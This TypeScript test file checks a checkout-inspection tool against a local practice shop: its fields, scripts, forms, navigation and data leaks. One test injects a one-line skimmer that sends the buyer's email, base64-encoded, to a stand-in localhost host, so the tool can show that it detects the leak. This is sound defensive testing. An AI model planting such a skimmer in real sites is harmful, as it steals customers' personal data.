import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { openBrowser } from '#engines/browser/open-browser.ts';
import type { Browser } from '#engines/browser/types.ts';
import { systemClock, systemRandom } from '#engines/clock/system-clock.ts';
import { openJourneys } from '#engines/journeys/open-journeys.ts';
import { openPracticeShop, type PracticeShop } from '#practice-shop/open-practice-shop.ts';
import type { PaymentPage } from '../../inspection.ts';
import { collectPaymentPage } from './collect-payment-page.ts';

vi.setConfig({ testTimeout: 90_000 });

let folder: string;
let browser: Browser;
let shop: PracticeShop;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'shopbell-payment-'));
  browser = openBrowser({ cacheFolder: folder });
  shop = await openPracticeShop({ folder: join(folder, 'shop'), seed: 3 });
});

afterAll(async () => {
  await shop.close();
  await browser.close();
  await rm(folder, { recursive: true, force: true });
});

async function look(wish: { readonly url: string | null; readonly controlled?: boolean; readonly journey?: string }): Promise<PaymentPage> {
  const outside = { browser, journeys: openJourneys(browser), random: systemRandom, clock: systemClock };
  const got = await collectPaymentPage(outside, { shop: new URL(shop.url), allowPrivate: true, controlled: true, ...wish });
  if (got.kind === 'unknown') throw new Error(got.reason);
  return got.value;
}

const pathOf = (page: PaymentPage) => new URL(page.finalUrl).pathname;

describe('the payment page', () => {
  it('is found as customers find it, when nobody says where it is', async () => {
    const orders = shop.truth.orderNumbers().length;
    const page = await look({ url: null });
    expect(page).toMatchObject({ partial: null, status: 200, url: `${shop.url}/checkout` });
    expect(pathOf(page)).toBe('/checkout');
    expect(page.typed).toEqual(expect.arrayContaining(['card', 'cvc', 'email', 'name']));
    expect(page.typed).not.toContain('phone');
    expect(page.scripts.map(({ url }) => new URL(url).pathname)).toEqual(expect.arrayContaining(['/reviews.js', '/checkout-helper.js']));
    // What the journey runs to read the page is no script of the shop.
    expect(page.scripts.filter(({ party }) => party === 'eval')).toEqual([]);
    // Only what the payment page itself loads, not what the pages on the way did.
    expect(page.forms.map(({ action }) => new URL(action).pathname)).toContain('/checkout');
    expect(page.leaks).toEqual([]);
    expect(shop.truth.orderNumbers()).toHaveLength(orders);
  });

  it('is reached by the shop’s own journey, and says where that got stuck', async () => {
    const head = `import { test } from '@playwright/test'; import { shop } from 'shopbell';\n`;
    const goes = await look({
      url: null,
      journey: `${head}test('there', async ({ page }) => { await shop.openProduct(page); await shop.addToCart(page); await page.goto('/checkout'); });`,
    });
    expect(goes.partial).toBeNull();
    expect(pathOf(goes)).toBe('/checkout');
    const stuck = await look({
      url: null,
      journey: `${head}test('there', async ({ page }) => { await page.goto('/'); await page.getByText('Not there').click({ timeout: 300 }); });`,
    });
    expect(stuck.partial).toMatch(/journey to the payment page got stuck: there: line 2: .*Timeout 300ms/);
  });

  it('shows what is taken from the buyer on the way, and to whom', async () => {
    shop.scripts.append(
      "document.addEventListener('change', (e) => { if (e.target.name === 'email') new Image().src = 'http://localhost:9/p?d=' + btoa(e.target.value); }, true);",
    );
    const page = await look({ url: null });
    shop.scripts.restore();
    expect(page.leaks).toMatchObject([{ field: 'email', host: 'localhost:9', where: 'address', encoding: 'base64' }]);
  });

  it('that leads elsewhere while the cart is empty is reached with something in it; a visitor is told that it was not', async () => {
    expect((await look({ url: `${shop.url}/checkout` })).partial).toBeNull();
    const visitor = await look({ url: `${shop.url}/checkout`, controlled: false });
    expect(pathOf(visitor)).toBe('/cart');
    expect(visitor.typed).toEqual([]);
  });
});
